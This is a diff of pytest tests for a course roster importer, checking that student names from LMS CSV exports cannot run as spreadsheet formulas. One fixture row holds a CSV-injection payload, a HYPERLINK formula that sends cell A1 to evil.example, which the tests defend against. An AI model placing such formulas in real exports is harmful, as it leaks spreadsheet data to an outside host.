@@ -10,8 +10,10 @@ from pathlib import Path
 import pytest
 
 from coursekit.cli import main
+from coursekit.course import Course
 from coursekit.lms.columns import LISTS, PeopleList
-from coursekit.lms.roster import COLUMNS, UNIQUE
+from coursekit.lms.roster import COLUMNS, UNIQUE, read_roster
+from coursekit.support.spreadsheet import is_formula
 
 CANVAS = """\
 Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (4711),Current Score
@@ -224,3 +226,47 @@ def test_quoted_line_ends_empty_columns_and_numbers_as_spreadsheets_leave_them(c
 
 def test_each_column_is_an_id_but_those_that_people_may_share():
     assert {*COLUMNS} - {*UNIQUE} == {"first_name", "last_name", "section", "groups"}
+
+
+def test_names_and_ids_are_no_formulas_and_stay_what_they_are(course, coursekit):
+    """In the file, which people open; read again they are the same, and found by the same."""
+    heading = "Student,ID,SIS User ID,SIS Login ID,Section\n"
+    export = (
+        f"{heading},,,,\n"
+        '"=HYPERLINK(""http://evil.example/""&A1), Eve",1,S1,eve,-1\n'
+        '"\'t Hooft, Gerard",2,-12,@gerard,L 1\n"-Dash, +Plus",3,S3,dash,L 1\n'
+        '"\'=Quote, Una",4,S4,una,L 1\n'
+    )
+    assert update(course, coursekit, export)[0] == 0
+    found = roster(course)
+    eve = next(row for row in found.values() if row["canvas_id"] == "1")
+    assert eve["last_name"] == '\'=HYPERLINK("http://evil.example/"&A1)'
+    cells = [cell for row in found.values() for cell in row.values()]
+    assert [cell for cell in cells if is_formula(cell)] == []
+    known = {one.canvas_id: one for one in read_roster(Course(course)).students.values()}
+    assert {one.name for one in known.values()} == {
+        'Eve =HYPERLINK("http://evil.example/"&A1)', "Gerard 't Hooft", "+Plus -Dash",
+        "Una '=Quote",
+    }  # fmt: skip
+    assert (known["2"].sis_user_id, known["2"].sis_login_id) == ("-12", "@gerard")
+    before = (course / "roster.csv").read_bytes()
+    assert "0 new, 0 changed" in update(course, coursekit, export)[1]
+    more = f'{export}"New, One",5,S5,one,L 1\n'
+    assert "1 new, 0 changed" in update(course, coursekit, more)[1]
+    assert (course / "roster.csv").read_bytes().startswith(before)
+
+
+def test_what_people_have_written_into_the_roster_stays(course, coursekit):
+    old = 'id,first_name,last_name,canvas_id,extra\n"=""007""",Ada,Lovelace,,-5\n'
+    (course / "roster.csv").write_text(old, encoding="utf-8")
+    assert update(course, coursekit, CANVAS)[0] == 0
+    assert '"=""007""",Ada,Lovelace,1234,-5,' in (course / "roster.csv").read_text("utf-8")
+
+
+def test_a_name_that_a_spreadsheet_took_for_a_formula(course, coursekit):
+    (course / "roster.csv").write_text(
+        "id,first_name,last_name\nada,Ada,#NAME?\n", encoding="utf-8"
+    )
+    code, said = update(course, coursekit, CANVAS)
+    assert code == 2
+    assert "roster.csv, row 2: last_name is #NAME?, which a spreadsheet makes of a text" in said
